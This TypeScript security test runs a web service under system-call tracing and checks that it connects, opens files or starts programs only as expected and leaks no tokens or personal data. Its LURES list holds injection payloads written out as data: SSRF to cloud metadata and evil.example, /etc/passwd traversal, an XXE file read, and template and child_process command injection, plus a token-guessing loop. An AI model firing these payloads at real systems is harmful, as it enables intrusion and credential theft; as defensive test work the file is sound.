import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { setTimeout as wait } from 'node:timers/promises';
import { loadFixture } from '../fixtures/fixtures.js';
import type { ApiClient } from '../support/api-client.js';
import { startBuiltService, type BuiltService } from '../support/built-service.js';
import { startMailServer, type MailServer } from '../support/mail-server.js';
import { enter } from '../support/partner-session.js';
import { rawRequest } from '../support/raw-request.js';
import { openExerciseOver, type OpenExercise } from '../support/story.js';
import { describeWithStrace, watchSystemCalls, type Watch } from '../support/system-calls.js';

const root = join(__dirname, '..', '..');

/** Addresses and files that a form, a PDF or a mail has been made to fetch (CVE-2026-33712, CVE-2025-68428 and others). */
const LURES = [
  'http://127.0.0.1:9/latest/meta-data/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]:9/',
  'https://evil.example/x.png',
  '//evil.example/x.png',
  'file:///etc/passwd',
  '/etc/passwd',
  '../../../../etc/passwd',
  '<img src="http://evil.example/a.png">',
  '<link rel="stylesheet" href="http://evil.example/a.css">',
  '![a](http://evil.example/a.png)',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '@import url(http://evil.example/a.css);',
  '{{constructor.constructor("return process")()}}',
  '${require("child_process").execSync("id")}',
  'choicesByUrl:http://evil.example/{remarks}',
];

describeWithStrace('a service under watch', () => {
  let dataDir: string;
  let service: BuiltService;
  let mailServer: MailServer;
  let watch: Watch;
  let manager: ApiClient;
  let story: OpenExercise;
  const secrets = new Set<string>();
  let calls: readonly string[] = [];

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'expost-watched-'));
    mailServer = await startMailServer();
    service = await startBuiltService({ dataDir, env: { LOG_LEVEL: 'trace', SMTP_URL: mailServer.url } });
    manager = service.api('manager');
    watch = await watchSystemCalls(service.pid, 'connect,open,openat,execve,sendto');
    await useItWhole();
    calls = await watch.end();
  }, 120_000);
  afterAll(async () => {
    await service.stop();
    await mailServer.stop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  /** One exercise from the invitation to the report, with every lure in every text, and a thousand secrets. */
  async function useItWhole(): Promise<void> {
    const fixture = loadFixture('lideres-2023');
    story = await openExerciseOver(manager, {
      ...fixture,
      initiative: {
        ...fixture.initiative,
        acronym: 'LIDERES //evil.example',
        entities: fixture.initiative.entities.map((entity, index) => ({
          ...entity,
          city: LURES[index] ?? '',
        })),
      },
    });
    while (mailServer.received.length < 5) await wait(20);
    const links = mailServer.received.map(({ mail }) => /\/r\/[\w-]{43}/.exec(mail.text ?? '')?.[0] ?? '');
    for (const link of links) secrets.add(link.slice('/r/'.length));
    const { cookie, csrf, get } = await enter(service, `${service.url}${await linkOf('tec')}`);
    secrets.add(cookie.slice('expost='.length)).add(csrf);
    const text = LURES.join('\n');
    const response = fixture.responses['tec'];
    const examples = LURES.slice(0, 5).map((lure) => ({
      title: lure,
      what: text,
      link: 'http://127.0.0.1:9/a.png',
    }));
    const answers = {
      ...response?.answers,
      remarks: text,
      quote: text.slice(0, 300),
      impact_examples: examples,
    };
    const put = await manager.put(
      `${story.path}/responses/tec`,
      { ...response, answers },
      { 'if-match': '"0"' },
    );
    expect([put.status, put.status === 200 ? '' : put.text]).toEqual([200, '']);
    for (const page of [
      '/answer/sections',
      '/answer/sections/closing',
      '/answer/check',
      '/answer/copy.pdf',
    ]) {
      expect([page, (await get(page)).status]).toEqual([page, 200]);
    }
    const key = { 'idempotency-key': 'watched' };
    expect((await manager.post(`${story.path}/responses/tec/submit`, {}, key)).status).toBe(200);
    await story.submit(['cainco', 'cantabria', 'carolina', 'ashoka']);
    const questions = [{ question: 'remarks', remark: text }];
    await manager.post(`${story.path}/responses/cainco/return`, { questions });
    await story.accept(['tec', 'cantabria', 'carolina', 'ashoka', 'cainco']);
    for (const format of ['pdf', 'html', 'json']) {
      const report = await manager.get(`${story.path}/report?language=en&format=${format}`);
      expect([format, report.status]).toEqual([format, 200]);
    }
    while (mailServer.received.length < 6) await wait(20);
    await guess();
  }
  async function linkOf(entity: string): Promise<string> {
    return new URL(await story.linkOf(entity)).pathname;
  }
  /** Guesses at links, sessions, tokens and sign-ins: what is wrong today may have been right yesterday. */
  async function guess(): Promise<void> {
    const token = service.token('reader');
    secrets.add(token);
    for (let number = 0; secrets.size < 1000; number += 1) {
      const secret = randomBytes(32).toString('base64url');
      secrets.add(secret);
      const asked = [
        () => rawRequest(service.url, 'GET', `/r/${secret}?token=${secret}`, { accept: 'text/html' }),
        () => rawRequest(service.url, 'GET', '/api/initiatives', { authorization: `Bearer ${secret}` }),
        () =>
          rawRequest(service.url, 'GET', '/answer', { cookie: `expost=${secret}; expost-staff=${secret}` }),
        () =>
          rawRequest(
            service.url,
            'POST',
            '/sign-in',
            { 'content-type': 'application/x-www-form-urlencoded' },
            `token=${secret}&next=/staff?token=${secret}`,
          ),
        () => rawRequest(service.url, 'POST', `/r/${secret}/new-link`),
      ];
      await asked[number % asked.length]?.();
    }
  }

  it('connects to the mail server and to nothing else', () => {
    const port = new URL(mailServer.url).port;
    const connections = calls.filter((call) => /\bconnect\(/.test(call) && !/AF_UNIX/.test(call));
    expect(connections.length).toBeGreaterThan(0);
    const elsewhere = connections.filter(
      (call) => !call.includes(`sin_port=htons(${port})`) || !call.includes('inet_addr("127.0.0.1")'),
    );
    expect(elsewhere).toEqual([]);
    // Nor does it ask for a name: nothing here is called anything but 127.0.0.1.
    expect(calls.filter((call) => /htons\(53\)|evil/.test(call))).toEqual([]);
  });

  it('opens no file but its own and its data', () => {
    const opened = calls.flatMap(
      (call) => /\bopen(?:at)?\((?:AT_FDCWD(?:<[^>]*>)?, )?"([^"]*)"/.exec(call)?.[1] ?? [],
    );
    expect(opened.length).toBeGreaterThan(0);
    const own = [
      dataDir,
      root,
      '/dev/',
      '/proc/',
      '/sys/',
      '/usr/lib/',
      '/lib/',
      '/usr/share/zoneinfo',
      '/etc/ld.so',
      // What a thread of the runtime begins with: its program, and how names are resolved.
      process.execPath,
      ...['/etc/resolv.conf', '/etc/nsswitch.conf', '/etc/netsvc.conf', '/etc/svc.conf'],
    ];
    const isOwn = (file: string) => own.some((folder) => file.startsWith(folder));
    expect(opened.filter((file) => !isOwn(file))).toEqual([]);
  });

  it('starts no other program', () => {
    expect(calls.filter((call) => /\bexecve\(/.test(call))).toEqual([]);
  });

  it('writes none of a thousand tokens into its log or its files', () => {
    const log = service.output();
    expect(log).toContain('/r/[token]');
    expect(secrets.size).toBeGreaterThanOrEqual(1000);
    const files = readdirSync(dataDir).map((file) => readFileSync(join(dataDir, file), 'latin1'));
    for (const [where, text] of [['log', log], ...files.map((file) => ['file', file] as const)] as const) {
      expect([where, [...secrets].filter((secret) => text.includes(secret))]).toEqual([where, []]);
    }
  });

  it('writes no answer, name or address of a person into its log', () => {
    const { initiative } = story.fixture;
    const people = initiative.entities.flatMap(({ contacts }) =>
      contacts.flatMap(({ name, email }) => [name, email]),
    );
    const log = service.output();
    for (const said of [...people, ...LURES, 'Rosa Example'])
      expect([said, log.includes(said)]).toEqual([said, false]);
  });

  it('sends a link to its own person only', () => {
    const [first] = mailServer.received;
    expect(first).toBeDefined();
    for (const secret of secrets) {
      const readers = mailServer.received.filter(({ mail }) => `${mail.text}${mail.html}`.includes(secret));
      expect(new Set(readers.map(({ to }) => to.join())).size).toBeLessThanOrEqual(1);
    }
  });
});
